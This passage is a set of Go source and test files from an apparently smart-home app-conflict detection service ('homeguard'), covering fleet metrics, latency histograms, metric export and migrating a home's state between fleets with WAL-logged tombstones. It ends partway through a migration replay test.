	// rejected with ErrAppInstalled) — expected traffic, kept separate
	// from InstallErrors so error alerting stays meaningful.
	InstallConflicts uint64
	Reconfigures     uint64
	// ThreatsByKind counts threats reported by installs fleet-wide per
	// Table I kind (reconfigure re-detections are not re-counted).
	ThreatsByKind map[detect.Kind]uint64
	// InstallP50/InstallP99 are histogram-quantized install latencies
	// (extraction + detection + reporting).
	InstallP50 time.Duration
	InstallP99 time.Duration
	// Cache is the shared extraction cache state.
	Cache extractcache.Stats
	// PairVerdicts is the shared pair-verdict cache state (all zero when
	// the fleet runs with DisablePairVerdicts).
	PairVerdicts pairverdict.Stats
	// Detectors aggregates per-home detector counters fleet-wide: how
	// many rule pairs were checked, how many the footprint prune skipped,
	// and how much solving the verdict cache absorbed. Totals include
	// completed installs/reconfigures only — work in flight shows up once
	// its operation finishes.
	Detectors DetectorTotals
}

// DetectorTotals are per-home detect.Stats counters accumulated over
// every completed install and reconfigure in the fleet.
type DetectorTotals struct {
	PairsChecked uint64
	PairsPruned  uint64
	// PairsIndexed counts candidate app pairs generated from the
	// footprint-channel index's posting lists; PairsSkippedByIndex counts
	// rule pairs the index never generated (also included in PairsPruned
	// — see detect.Stats for the unit convention).
	PairsIndexed        uint64
	PairsSkippedByIndex uint64
	SolverCalls         uint64
	SolverCacheHits     uint64
	PairVerdictHits     uint64
	PairVerdictMisses   uint64
	// SearchLimitHits counts solver calls that exhausted their node budget
	// and degraded to the conservative verdict — nonzero means detection
	// quality is degraded somewhere in the fleet and the budget
	// (detect.Options.SolverNodeCap) needs raising.
	SearchLimitHits uint64
}

// detectorTotalsOf projects the scalar counters of one detector's stats.
func detectorTotalsOf(st detect.Stats) DetectorTotals {
	return DetectorTotals{
		PairsChecked:        uint64(st.PairsChecked),
		PairsPruned:         uint64(st.PairsPruned),
		PairsIndexed:        uint64(st.PairsIndexed),
		PairsSkippedByIndex: uint64(st.PairsSkippedByIndex),
		SolverCalls:         uint64(st.SolverCalls),
		SolverCacheHits:     uint64(st.SolverCacheHits),
		PairVerdictHits:     uint64(st.PairVerdictHits),
		PairVerdictMisses:   uint64(st.PairVerdictMisses),
		SearchLimitHits:     uint64(st.SearchLimitHits),
	}
}

// minus returns the counter growth from prev to t.
func (t DetectorTotals) minus(prev DetectorTotals) DetectorTotals {
	return DetectorTotals{
		PairsChecked:        t.PairsChecked - prev.PairsChecked,
		PairsPruned:         t.PairsPruned - prev.PairsPruned,
		PairsIndexed:        t.PairsIndexed - prev.PairsIndexed,
		PairsSkippedByIndex: t.PairsSkippedByIndex - prev.PairsSkippedByIndex,
		SolverCalls:         t.SolverCalls - prev.SolverCalls,
		SolverCacheHits:     t.SolverCacheHits - prev.SolverCacheHits,
		PairVerdictHits:     t.PairVerdictHits - prev.PairVerdictHits,
		PairVerdictMisses:   t.PairVerdictMisses - prev.PairVerdictMisses,
		SearchLimitHits:     t.SearchLimitHits - prev.SearchLimitHits,
	}
}

func (m *metrics) snapshot(cache extractcache.Stats, verdicts pairverdict.Stats) MetricsSnapshot {
	m.mu.Lock()
	defer m.mu.Unlock()
	kinds := make(map[detect.Kind]uint64, len(m.threats))
	for k, v := range m.threats {
		kinds[k] = v
	}
	return MetricsSnapshot{
		Homes:            m.homes,
		Installs:         m.installs,
		InstallErrors:    m.installErrors,
		InstallConflicts: m.installConflicts,
		Reconfigures:     m.reconfigures,
		ThreatsByKind:    kinds,
		InstallP50:       m.installLat.Quantile(0.50),
		InstallP99:       m.installLat.Quantile(0.99),
		Cache:            cache,
		PairVerdicts:     verdicts,
		Detectors:        m.det,
	}
}

// registerCollector publishes the fleet's counters into an obs.Registry
// under the stable homeguard_* metric names (the catalog is documented in
// the root package's Observability section). The collector reads one
// MetricsSnapshot per scrape — the same lock discipline as the JSON
// /metrics endpoint — so scraping never touches a home lock.
func (f *Fleet) registerCollector(r *obs.Registry) {
	r.RegisterCollector(func(e *obs.Emit) {
		s := f.Metrics()
		e.Gauge("homeguard_homes", "Homes managed by the fleet.", float64(s.Homes))
		e.Counter("homeguard_installs_total", "Completed app installs.", float64(s.Installs))
		e.Counter("homeguard_install_errors_total", "Installs failed by extraction errors.", float64(s.InstallErrors))
		e.Counter("homeguard_install_conflicts_total", "Installs rejected as duplicate app names (client retries).", float64(s.InstallConflicts))
		e.Counter("homeguard_reconfigures_total", "Completed app reconfigurations.", float64(s.Reconfigures))

		kinds := make([]detect.Kind, 0, len(s.ThreatsByKind))
		for k := range s.ThreatsByKind {
			kinds = append(kinds, k)
		}
		sort.Slice(kinds, func(i, j int) bool { return kinds[i] < kinds[j] })
		for _, k := range kinds {
			e.Counter("homeguard_threats_total", "Threats reported by installs, per kind.",
				float64(s.ThreatsByKind[k]), obs.Label{Name: "kind", Value: string(k)})
		}

		e.Histogram("homeguard_install_duration_seconds",
			"Install latency (extraction + detection + reporting).", f.metrics.installLat.Snapshot())

		e.Counter("homeguard_extract_cache_lookups_total", "Extraction cache lookups.", float64(s.Cache.Lookups))
		e.Counter("homeguard_extract_cache_hits_total", "Extraction cache hits.", float64(s.Cache.Hits))
		e.Counter("homeguard_extract_cache_misses_total", "Extraction cache misses.", float64(s.Cache.Misses))
		e.Counter("homeguard_extract_cache_evictions_total", "Extraction cache evictions.", float64(s.Cache.Evictions))
		e.Gauge("homeguard_extract_cache_entries", "Extraction cache resident entries.", float64(s.Cache.Entries))

		e.Counter("homeguard_verdict_cache_lookups_total", "Pair-verdict cache lookups.", float64(s.PairVerdicts.Lookups))
		e.Counter("homeguard_verdict_cache_hits_total", "Pair-verdict cache hits.", float64(s.PairVerdicts.Hits))
		e.Counter("homeguard_verdict_cache_misses_total", "Pair-verdict cache misses.", float64(s.PairVerdicts.Misses))
		e.Gauge("homeguard_verdict_cache_entries", "Pair-verdict cache resident entries.", float64(s.PairVerdicts.Entries))

		d := s.Detectors
		e.Counter("homeguard_detect_pairs_checked_total", "Rule pairs whose verdict a home obtained.", float64(d.PairsChecked))
		e.Counter("homeguard_detect_pairs_pruned_total", "Rule pairs skipped by the footprint prune.", float64(d.PairsPruned))
		e.Counter("homeguard_detect_pairs_indexed_total", "Candidate app pairs generated by the footprint index.", float64(d.PairsIndexed))
		e.Counter("homeguard_detect_pairs_skipped_by_index_total", "Rule pairs the footprint index never generated.", float64(d.PairsSkippedByIndex))
		e.Counter("homeguard_detect_verdict_hits_total", "Detector-side pair-verdict cache hits.", float64(d.PairVerdictHits))
		e.Counter("homeguard_detect_verdict_misses_total", "Detector-side pair-verdict cache misses.", float64(d.PairVerdictMisses))
		e.Counter("homeguard_solver_calls_total", "Constraint-solver invocations.", float64(d.SolverCalls))
		e.Counter("homeguard_solver_cache_hits_total", "Per-home solving-reuse (satCache) hits.", float64(d.SolverCacheHits))
		e.Counter("homeguard_solver_limit_hits_total", "Solver calls degraded by node-budget exhaustion.", float64(d.SearchLimitHits))
	})
}
