package fleet

import (
	"math"
	"sync"
	"time"

	"homeguard/internal/detect"
	"homeguard/internal/extractcache"
	"homeguard/internal/pairverdict"
)

// The install-latency histogram has 40 exponential buckets whose upper
// bounds start at 1µs and double per bucket (the last bucket is
// effectively unbounded). A histogram keeps observation cost O(1) and
// bounded memory at fleet scale, at the price of quantiles quantized to
// bucket bounds — fine for service dashboards.
const (
	latencyBucketCount = 40
	latencyBucketBase  = time.Microsecond
)

type latencyHist struct {
	counts [latencyBucketCount]uint64
	total  uint64
}

func bucketIndex(d time.Duration) int {
	if d < latencyBucketBase {
		return 0
	}
	i := 0
	for b := latencyBucketBase; b < d && i < latencyBucketCount-1; b <<= 1 {
		i++
	}
	return i
}

func (h *latencyHist) observe(d time.Duration) {
	h.counts[bucketIndex(d)]++
	h.total++
}

// quantile returns the upper bound of the bucket containing the q-th
// observation (0 < q <= 1), or 0 when empty. Nearest-rank with ceiling,
// so p99 of 10 observations is the 10th (the tail is never understated).
func (h *latencyHist) quantile(q float64) time.Duration {
	if h.total == 0 {
		return 0
	}
	rank := uint64(math.Ceil(q * float64(h.total)))
	if rank == 0 {
		rank = 1
	}
	if rank > h.total {
		rank = h.total
	}
	var cum uint64
	for i, c := range h.counts {
		cum += c
		if cum >= rank {
			return latencyBucketBase << uint(i)
		}
	}
	return latencyBucketBase << uint(latencyBucketCount-1)
}

// metrics aggregates fleet-wide counters behind one mutex. Every field is
// guarded by mu; detector-level stats stay per-home behind home locks and
// are folded in as deltas when each install/reconfigure completes, so
// reading a snapshot never touches a home lock (a wedged or long-running
// install must not stall /metrics, and scrapes stay O(1) at fleet scale).
type metrics struct {
	mu               sync.Mutex
	homes            uint64
	installs         uint64
	installErrors    uint64
	installConflicts uint64
	reconfigures     uint64
	threats          map[detect.Kind]uint64
	installLat       latencyHist
	det              DetectorTotals
}

func newMetrics() *metrics {
	return &metrics{threats: map[detect.Kind]uint64{}}
}

func (m *metrics) homeCreated() {
	m.mu.Lock()
	m.homes++
	m.mu.Unlock()
}

func (m *metrics) installDone(d time.Duration, threats []detect.Threat) {
	m.mu.Lock()
	m.installs++
	m.installLat.observe(d)
	for _, t := range threats {
		m.threats[t.Kind]++
	}
	m.mu.Unlock()
}

func (m *metrics) installFailed() {
	m.mu.Lock()
	m.installErrors++
	m.mu.Unlock()
}

func (m *metrics) installConflicted() {
	m.mu.Lock()
	m.installConflicts++
	m.mu.Unlock()
}

// detectorDelta folds one home's detector-counter growth into the
// fleet-wide totals. The caller computes the delta under the home's lock
// (detector counters only grow, so cur - prev is exact) and reports it
// here afterwards.
func (m *metrics) detectorDelta(d DetectorTotals) {
	m.mu.Lock()
	m.det.PairsChecked += d.PairsChecked
	m.det.PairsPruned += d.PairsPruned
	m.det.PairsIndexed += d.PairsIndexed
	m.det.PairsSkippedByIndex += d.PairsSkippedByIndex
	m.det.SolverCalls += d.SolverCalls
	m.det.SolverCacheHits += d.SolverCacheHits
	m.det.PairVerdictHits += d.PairVerdictHits
	m.det.PairVerdictMisses += d.PairVerdictMisses
	m.det.SearchLimitHits += d.SearchLimitHits
	m.mu.Unlock()
}

// reconfigureDone deliberately does not feed ThreatsByKind: a reconfigure
// re-reports threats over the same rule pairs, and re-counting them would
// inflate the per-kind totals with every no-op reconfigure.
func (m *metrics) reconfigureDone() {
	m.mu.Lock()
	m.reconfigures++
	m.mu.Unlock()
}

// MetricsSnapshot is a point-in-time view of fleet service metrics.
type MetricsSnapshot struct {
	Homes         uint64
	Installs      uint64
	InstallErrors uint64
	// InstallConflicts counts duplicate-app installs (client retries
	// rejected with ErrAppInstalled) — expected traffic, kept separate
	// from InstallErrors so error alerting stays meaningful.
	InstallConflicts uint64
	Reconfigures     uint64
	// ThreatsByKind counts threats reported by installs fleet-wide per
	// Table I kind (reconfigure re-detections are not re-counted).
	ThreatsByKind map[detect.Kind]uint64
	// InstallP50/InstallP99 are histogram-quantized install latencies
	// (extraction + detection + reporting).
	InstallP50 time.Duration
	InstallP99 time.Duration
	// Cache is the shared extraction cache state.
	Cache extractcache.Stats
	// PairVerdicts is the shared pair-verdict cache state (all zero when
	// the fleet runs with DisablePairVerdicts).
	PairVerdicts pairverdict.Stats
	// Detectors aggregates per-home detector counters fleet-wide: how
	// many rule pairs were checked, how many the footprint prune skipped,
	// and how much solving the verdict cache absorbed. Totals include
	// completed installs/reconfigures only — work in flight shows up once
	// its operation finishes.
	Detectors DetectorTotals
}

// DetectorTotals are per-home detect.Stats counters accumulated over
// every completed install and reconfigure in the fleet.
type DetectorTotals struct {
	PairsChecked uint64
	PairsPruned  uint64
	// PairsIndexed counts candidate app pairs generated from the
	// footprint-channel index's posting lists; PairsSkippedByIndex counts
	// rule pairs the index never generated (also included in PairsPruned
	// — see detect.Stats for the unit convention).
	PairsIndexed        uint64
	PairsSkippedByIndex uint64
	SolverCalls         uint64
	SolverCacheHits     uint64
	PairVerdictHits     uint64
	PairVerdictMisses   uint64
	// SearchLimitHits counts solver calls that exhausted their node budget
	// and degraded to the conservative verdict — nonzero means detection
	// quality is degraded somewhere in the fleet and the budget
	// (detect.Options.SolverNodeCap) needs raising.
	SearchLimitHits uint64
}

// detectorTotalsOf projects the scalar counters of one detector's stats.
func detectorTotalsOf(st detect.Stats) DetectorTotals {
	return DetectorTotals{
		PairsChecked:        uint64(st.PairsChecked),
		PairsPruned:         uint64(st.PairsPruned),
		PairsIndexed:        uint64(st.PairsIndexed),
		PairsSkippedByIndex: uint64(st.PairsSkippedByIndex),
		SolverCalls:         uint64(st.SolverCalls),
		SolverCacheHits:     uint64(st.SolverCacheHits),
		PairVerdictHits:     uint64(st.PairVerdictHits),
		PairVerdictMisses:   uint64(st.PairVerdictMisses),
		SearchLimitHits:     uint64(st.SearchLimitHits),
	}
}

// minus returns the counter growth from prev to t.
func (t DetectorTotals) minus(prev DetectorTotals) DetectorTotals {
	return DetectorTotals{
		PairsChecked:        t.PairsChecked - prev.PairsChecked,
		PairsPruned:         t.PairsPruned - prev.PairsPruned,
		PairsIndexed:        t.PairsIndexed - prev.PairsIndexed,
		PairsSkippedByIndex: t.PairsSkippedByIndex - prev.PairsSkippedByIndex,
		SolverCalls:         t.SolverCalls - prev.SolverCalls,
		SolverCacheHits:     t.SolverCacheHits - prev.SolverCacheHits,
		PairVerdictHits:     t.PairVerdictHits - prev.PairVerdictHits,
		PairVerdictMisses:   t.PairVerdictMisses - prev.PairVerdictMisses,
		SearchLimitHits:     t.SearchLimitHits - prev.SearchLimitHits,
	}
}

func (m *metrics) snapshot(cache extractcache.Stats, verdicts pairverdict.Stats) MetricsSnapshot {
	m.mu.Lock()
	defer m.mu.Unlock()
	kinds := make(map[detect.Kind]uint64, len(m.threats))
	for k, v := range m.threats {
		kinds[k] = v
	}
	return MetricsSnapshot{
		Homes:            m.homes,
		Installs:         m.installs,
		InstallErrors:    m.installErrors,
		InstallConflicts: m.installConflicts,
		Reconfigures:     m.reconfigures,
		ThreatsByKind:    kinds,
		InstallP50:       m.installLat.quantile(0.50),
		InstallP99:       m.installLat.quantile(0.99),
		Cache:            cache,
		PairVerdicts:     verdicts,
		Detectors:        m.det,
	}
}
