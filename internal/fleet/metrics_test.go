package fleet

import (
	"testing"
	"time"

	"homeguard/internal/obs"
)

// The fleet's install-latency quantiles come from obs.Histogram; these
// tests pin the consumption contract at this site (the obs package has
// its own accuracy tests): nearest-rank-with-ceiling quantiles that never
// understate the tail, and safe behavior on empty/out-of-range input.

func TestLatencyQuantileCoversTail(t *testing.T) {
	var m metrics
	for i := 0; i < 9; i++ {
		m.installLat.Observe(time.Millisecond)
	}
	m.installLat.Observe(2 * time.Second) // the outlier p99 exists to surface

	p99 := m.installLat.Quantile(0.99)
	if p99 < 2*time.Second {
		t.Errorf("p99 = %v with a 2s outlier in 10 observations; nearest-rank must take the ceiling", p99)
	}
	p50 := m.installLat.Quantile(0.50)
	if p50 > 10*time.Millisecond {
		t.Errorf("p50 = %v, want ~1ms bucket", p50)
	}
	if p50 > p99 {
		t.Errorf("p50 %v > p99 %v", p50, p99)
	}
}

func TestLatencyQuantileEmptyAndBounds(t *testing.T) {
	var h obs.Histogram
	if got := h.Quantile(0.99); got != 0 {
		t.Errorf("quantile of empty histogram = %v, want 0", got)
	}
	h.Observe(0)                    // below the first bucket bound
	h.Observe(365 * 24 * time.Hour) // far beyond the last bucket bound
	if got := h.Quantile(1.0); got == 0 {
		t.Error("quantile(1.0) = 0 after observations")
	}
	if got := h.Snapshot().Count; got != 2 {
		t.Errorf("count = %d, want 2", got)
	}
}
