package fleet

import (
	"testing"
	"time"
)

func TestLatencyQuantileCoversTail(t *testing.T) {
	var h latencyHist
	for i := 0; i < 9; i++ {
		h.observe(time.Millisecond)
	}
	h.observe(2 * time.Second) // the outlier p99 exists to surface

	p99 := h.quantile(0.99)
	if p99 < 2*time.Second {
		t.Errorf("p99 = %v with a 2s outlier in 10 observations; nearest-rank must take the ceiling", p99)
	}
	p50 := h.quantile(0.50)
	if p50 > 10*time.Millisecond {
		t.Errorf("p50 = %v, want ~1ms bucket", p50)
	}
	if p50 > p99 {
		t.Errorf("p50 %v > p99 %v", p50, p99)
	}
}

func TestLatencyQuantileEmptyAndBounds(t *testing.T) {
	var h latencyHist
	if got := h.quantile(0.99); got != 0 {
		t.Errorf("quantile of empty histogram = %v, want 0", got)
	}
	h.observe(0)                    // below the first bucket bound
	h.observe(365 * 24 * time.Hour) // far beyond the last bucket bound
	if got := h.quantile(1.0); got == 0 {
		t.Error("quantile(1.0) = 0 after observations")
	}
	if h.total != 2 {
		t.Errorf("total = %d, want 2", h.total)
	}
}
