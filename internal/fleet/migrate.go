// Planned home migration: ExportHome serializes one home's durable
// state — apps with resolved configs, the threat log, the ledger,
// accepted threats — as a self-contained snapcodec section; DetachHome
// exports and then removes the home (WAL-logging the removal before it
// returns, so a crash between migrate and adopt never resurrects it
// here); ImportHome rebuilds the home on the adopting fleet and logs
// the adopt record carrying the full blob, so recovery on the new
// owner replays the adoption without the old owner existing anymore.
//
// The export zeroes the per-home WAL watermark: LSNs are meaningful
// only within one log, and the adopting fleet's log assigns the home a
// fresh one at the adopt record. Removal tombstones (home ID → removal
// LSN) are kept in memory and persisted in the homes snapshot so
// replay never lets a pre-removal install record resurrect a migrated
// home (per-home watermarks alone cannot catch this: a recreated home
// starts back at watermark zero).

package fleet

import (
	"bytes"
	"encoding/json"
	"fmt"
	"io"

	"homeguard/internal/detect"
	"homeguard/internal/extractcache"
	"homeguard/internal/rule"
	"homeguard/internal/snapcodec"
	"homeguard/internal/symexec"
	"homeguard/internal/wal"
)

// Export format identity for the single-home section.
const (
	homeExportMagic   = "HGHMSNP\x00"
	homeExportVersion = 1
)

// ExportHome serializes one home's durable state without removing it
// (a read-only copy — DetachHome is the move). The blob is a
// self-contained snapcodec section ImportHome consumes. Returns the
// blob and the number of apps the home holds.
func (f *Fleet) ExportHome(homeID string) ([]byte, int, error) {
	h := f.lookup(homeID)
	if h == nil {
		return nil, 0, fmt.Errorf("fleet: %w %q", ErrUnknownHome, homeID)
	}
	h.mu.Lock()
	defer h.mu.Unlock()
	if h.migrated {
		return nil, 0, fmt.Errorf("fleet: %w %q", ErrUnknownHome, homeID)
	}
	return h.exportUnderLock()
}

// exportUnderLock encodes the home as a single-home section. Callers
// hold h.mu.
func (h *home) exportUnderLock() ([]byte, int, error) {
	tableIdx := map[*rule.RuleSet]int{}
	var table [][]byte
	rec, err := h.encodeUnderLock(tableIdx, &table, 0)
	if err != nil {
		return nil, 0, fmt.Errorf("fleet: export home %s: %w", h.id, err)
	}
	var buf bytes.Buffer
	sw, err := snapcodec.NewWriter(&buf, homeExportMagic, homeExportVersion)
	if err != nil {
		return nil, 0, fmt.Errorf("fleet: export home %s: %w", h.id, err)
	}
	meta, err := json.Marshal(homesMetaJSON{Apps: len(table), Homes: 1})
	if err != nil {
		return nil, 0, err
	}
	if err := sw.Record(meta); err != nil {
		return nil, 0, fmt.Errorf("fleet: export home %s: %w", h.id, err)
	}
	for _, trec := range table {
		if err := sw.Record(trec); err != nil {
			return nil, 0, fmt.Errorf("fleet: export home %s: %w", h.id, err)
		}
	}
	if err := sw.Record(rec); err != nil {
		return nil, 0, fmt.Errorf("fleet: export home %s: %w", h.id, err)
	}
	if err := sw.Close(); err != nil {
		return nil, 0, fmt.Errorf("fleet: export home %s: %w", h.id, err)
	}
	return buf.Bytes(), len(h.det.Apps()), nil
}

// DetachHome exports the home and removes it from this fleet in one
// atomic step: after it returns the home answers ErrUnknownHome here
// and the returned blob is the one copy of its state. The removal is
// WAL-logged (OpFleetRemoveHome) before the return, and a tombstone
// keeps replay from resurrecting the home from pre-removal records.
// In-flight operations that already hold the home's pointer fail with
// ErrUnknownHome when they acquire its lock.
func (f *Fleet) DetachHome(homeID string) ([]byte, int, error) {
	s := f.shardFor(homeID)
	s.mu.Lock()
	h := s.homes[homeID]
	if h == nil {
		s.mu.Unlock()
		return nil, 0, fmt.Errorf("fleet: %w %q", ErrUnknownHome, homeID)
	}
	// Lock order shard → home is safe: no path acquires the shard lock
	// while holding a home lock. Holding the shard lock across the
	// export keeps homeFor from handing out the dying home (or creating
	// a doppelgänger) mid-detach; migration is rare enough that stalling
	// one shard briefly is fine.
	h.mu.Lock()
	defer h.mu.Unlock()
	blob, apps, err := h.exportUnderLock()
	if err != nil {
		s.mu.Unlock()
		return nil, 0, err
	}
	var opRec []byte
	if f.wal != nil {
		if opRec, err = json.Marshal(removeHomeOp{Home: homeID}); err != nil {
			s.mu.Unlock()
			return nil, 0, fmt.Errorf("fleet: detach home %s: wal encode: %w", homeID, err)
		}
	}
	// Point of no return: the home leaves the map and late waiters on
	// its lock see migrated.
	h.migrated = true
	delete(s.homes, homeID)
	s.mu.Unlock()
	if f.wal != nil {
		lsn, err := f.wal.Append(wal.OpFleetRemoveHome, opRec)
		if err != nil {
			// Crash-stop: the home is gone in memory and the log is
			// latched, so nothing further can be acknowledged anyway.
			return nil, 0, fmt.Errorf("fleet: detach home %s: wal append: %w", homeID, err)
		}
		f.setTombstone(homeID, lsn)
	}
	f.metrics.homeRemoved()
	return blob, apps, nil
}

// ImportHome rebuilds a home exported by ExportHome/DetachHome on this
// fleet and WAL-logs the adoption (OpFleetAdoptHome carries the whole
// blob, so recovery replays the adopt without the exporter existing).
// Importing onto a home ID that already has state fails ErrHomeExists.
// Returns the number of apps the home now holds.
func (f *Fleet) ImportHome(homeID string, blob []byte) (int, error) {
	hs, table, err := decodeHomeExport(blob)
	if err != nil {
		return 0, err
	}
	if hs.ID != homeID {
		return 0, fmt.Errorf("fleet: import: snapshot is for home %q, not %q", hs.ID, homeID)
	}
	var opRec []byte
	if f.wal != nil {
		if opRec, err = json.Marshal(adoptHomeOp{Home: homeID, Snapshot: blob}); err != nil {
			return 0, fmt.Errorf("fleet: import home %s: wal encode: %w", homeID, err)
		}
	}
	h := f.homeFor(homeID)
	h.mu.Lock()
	defer h.mu.Unlock()
	if err := f.adoptUnderLock(h, hs, table); err != nil {
		return 0, err
	}
	if f.wal != nil {
		lsn, err := f.wal.Append(wal.OpFleetAdoptHome, opRec)
		if err != nil {
			return 0, fmt.Errorf("fleet: import home %s: wal append: %w", homeID, err)
		}
		h.walLSN = lsn
	}
	return len(hs.Apps), nil
}

// adoptUnderLock restores an exported home into h, which must be
// empty. A mid-restore failure (corrupt blob) resets the home to empty
// rather than leaving it half-populated. Callers hold h.mu.
func (f *Fleet) adoptUnderLock(h *home, hs *homeSnapJSON, table []*symexec.Result) error {
	if len(h.det.Apps()) > 0 || len(h.threats) > 0 {
		return fmt.Errorf("fleet: %w: %q", ErrHomeExists, h.id)
	}
	if err := f.restoreHomeUnderLock(h, hs, table); err != nil {
		h.det = detect.New(f.opts.Detector)
		h.threats, h.ledger = nil, nil
		h.detSeen = DetectorTotals{}
		return err
	}
	return nil
}

// decodeHomeExport parses a single-home export section.
func decodeHomeExport(blob []byte) (*homeSnapJSON, []*symexec.Result, error) {
	sr, err := snapcodec.NewReader(bytes.NewReader(blob), homeExportMagic, homeExportVersion)
	if err != nil {
		return nil, nil, fmt.Errorf("fleet: import: %w", err)
	}
	rec, err := sr.Next()
	if err != nil {
		return nil, nil, fmt.Errorf("fleet: import: meta: %w", err)
	}
	var meta homesMetaJSON
	if err := json.Unmarshal(rec, &meta); err != nil {
		return nil, nil, fmt.Errorf("%w: import meta: %v", snapcodec.ErrCorrupt, err)
	}
	if meta.Homes != 1 {
		return nil, nil, fmt.Errorf("%w: import section declares %d homes, want 1", snapcodec.ErrCorrupt, meta.Homes)
	}
	table := make([]*symexec.Result, 0, meta.Apps)
	for i := 0; i < meta.Apps; i++ {
		rec, err := sr.Next()
		if err != nil {
			return nil, nil, fmt.Errorf("fleet: import: app table %d: %w", i, err)
		}
		res, err := extractcache.UnmarshalResult(rec)
		if err != nil {
			return nil, nil, fmt.Errorf("fleet: import: app table %d: %w", i, err)
		}
		table = append(table, res)
	}
	rec, err = sr.Next()
	if err != nil {
		return nil, nil, fmt.Errorf("fleet: import: home record: %w", err)
	}
	hs := new(homeSnapJSON)
	if err := json.Unmarshal(rec, hs); err != nil {
		return nil, nil, fmt.Errorf("%w: import home record: %v", snapcodec.ErrCorrupt, err)
	}
	if _, err := sr.Next(); err != io.EOF {
		if err == nil {
			return nil, nil, fmt.Errorf("%w: import section has extra records", snapcodec.ErrCorrupt)
		}
		return nil, nil, fmt.Errorf("fleet: import: %w", err)
	}
	return hs, table, nil
}

// ---------- tombstones ----------

// setTombstone records homeID's removal LSN (keeping the largest).
func (f *Fleet) setTombstone(homeID string, lsn uint64) {
	f.tombMu.Lock()
	if lsn > f.tombstones[homeID] {
		f.tombstones[homeID] = lsn
	}
	f.tombMu.Unlock()
}

// tombstoneCovers reports whether homeID was removed at or after lsn —
// i.e. whether a replayed record at lsn predates the home's removal
// and must be skipped.
func (f *Fleet) tombstoneCovers(homeID string, lsn uint64) bool {
	f.tombMu.Lock()
	defer f.tombMu.Unlock()
	return f.tombstones[homeID] >= lsn
}

// tombstoneSnapshot copies the tombstone map for the homes snapshot
// (nil when there are none, keeping old snapshots byte-identical).
func (f *Fleet) tombstoneSnapshot() map[string]uint64 {
	f.tombMu.Lock()
	defer f.tombMu.Unlock()
	if len(f.tombstones) == 0 {
		return nil
	}
	out := make(map[string]uint64, len(f.tombstones))
	for k, v := range f.tombstones {
		out[k] = v
	}
	return out
}
