package fleet

import (
	"bytes"
	"context"
	"errors"
	"fmt"
	"testing"

	"homeguard/internal/detect"
)

// TestHomeMigrationRoundTrip moves one home between two fleets: the
// detached home is gone from the source (every path answers
// ErrUnknownHome) and the import reproduces its durable state —
// apps, threat log, active ledger, accepted threats — on the target.
func TestHomeMigrationRoundTrip(t *testing.T) {
	ctx := context.Background()
	src := New(Options{})
	driveOps(t, src)

	wantApps, _ := src.Apps("home-0")
	wantThreats, _ := src.Threats("home-0")
	wantActive, _ := src.ActiveThreats("home-0")

	blob, apps, err := src.DetachHome("home-0")
	if err != nil {
		t.Fatalf("DetachHome: %v", err)
	}
	if apps != len(wantApps) {
		t.Fatalf("detach reported %d apps, home had %d", apps, len(wantApps))
	}

	// Gone on the source, in every path.
	if _, err := src.Apps("home-0"); !errors.Is(err, ErrUnknownHome) {
		t.Fatalf("Apps after detach: %v, want ErrUnknownHome", err)
	}
	if _, err := src.Threats("home-0"); !errors.Is(err, ErrUnknownHome) {
		t.Fatalf("Threats after detach: %v, want ErrUnknownHome", err)
	}
	if _, err := src.Reconfigure(ctx, "home-0", "ComfortTV", nil); !errors.Is(err, ErrUnknownHome) {
		t.Fatalf("Reconfigure after detach: %v, want ErrUnknownHome", err)
	}
	// An install recreates the ID as a fresh home (new tenant) rather
	// than failing — the old state must not leak into it.
	if _, err := src.Install(ctx, "home-0", mustSource(t, "NightCare"), nil); err != nil {
		t.Fatalf("install into recycled ID: %v", err)
	}
	if names, _ := src.Apps("home-0"); len(names) != 1 {
		t.Fatalf("recycled home has %v, want just the new app", names)
	}

	dst := New(Options{})
	n, err := dst.ImportHome("home-0", blob)
	if err != nil {
		t.Fatalf("ImportHome: %v", err)
	}
	if n != len(wantApps) {
		t.Fatalf("import reported %d apps, want %d", n, len(wantApps))
	}
	gotApps, _ := dst.Apps("home-0")
	if fmt.Sprint(gotApps) != fmt.Sprint(wantApps) {
		t.Fatalf("imported apps %v, want %v", gotApps, wantApps)
	}
	gotThreats, _ := dst.Threats("home-0")
	wb, _ := detect.MarshalThreats(wantThreats)
	gb, _ := detect.MarshalThreats(gotThreats)
	if !bytes.Equal(wb, gb) {
		t.Fatalf("imported threat log diverged: %d vs %d threats", len(gotThreats), len(wantThreats))
	}
	gotActive, _ := dst.ActiveThreats("home-0")
	wab, _ := detect.MarshalThreats(wantActive)
	gab, _ := detect.MarshalThreats(gotActive)
	if !bytes.Equal(wab, gab) {
		t.Fatalf("imported active ledger diverged: %d vs %d threats", len(gotActive), len(wantActive))
	}

	// A retried adopt after the success must not double-apply.
	if _, err := dst.ImportHome("home-0", blob); !errors.Is(err, ErrHomeExists) {
		t.Fatalf("second import: %v, want ErrHomeExists", err)
	}

	// The adopted home keeps serving.
	if _, err := dst.Install(ctx, "home-0", mustSource(t, "NightCare"), nil); err != nil {
		t.Fatalf("install after adopt: %v", err)
	}
}

// TestExportHomeIsReadOnly checks ExportHome leaves the home serving and
// its blob still imports elsewhere.
func TestExportHomeIsReadOnly(t *testing.T) {
	src := New(Options{})
	driveOps(t, src)
	before, _ := src.Apps("home-1")
	blob, apps, err := src.ExportHome("home-1")
	if err != nil {
		t.Fatalf("ExportHome: %v", err)
	}
	if apps != len(before) {
		t.Fatalf("export reported %d apps, want %d", apps, len(before))
	}
	after, _ := src.Apps("home-1")
	if fmt.Sprint(before) != fmt.Sprint(after) {
		t.Fatalf("export mutated the home: %v -> %v", before, after)
	}
	dst := New(Options{})
	if _, err := dst.ImportHome("home-1", blob); err != nil {
		t.Fatalf("import of export blob: %v", err)
	}
}

// TestImportHomeValidates rejects blobs that are corrupt or addressed to
// the wrong home, leaving the target empty enough to adopt later.
func TestImportHomeValidates(t *testing.T) {
	src := New(Options{})
	driveOps(t, src)
	blob, _, err := src.ExportHome("home-1")
	if err != nil {
		t.Fatal(err)
	}
	dst := New(Options{})
	if _, err := dst.ImportHome("home-2", blob); err == nil {
		t.Fatal("import under the wrong home ID succeeded")
	}
	if _, err := dst.ImportHome("home-1", blob[:len(blob)/2]); err == nil {
		t.Fatal("import of a truncated blob succeeded")
	}
	// The failed attempts must not have poisoned the ID.
	if _, err := dst.ImportHome("home-1", blob); err != nil {
		t.Fatalf("import after failed attempts: %v", err)
	}
}

// TestMigrationWALReplay crashes both sides after a migration and
// recovers each from its log alone: the source must not resurrect the
// home (tombstone over the pre-removal install records), the target
// rebuilds it from the adopt record's embedded snapshot.
func TestMigrationWALReplay(t *testing.T) {
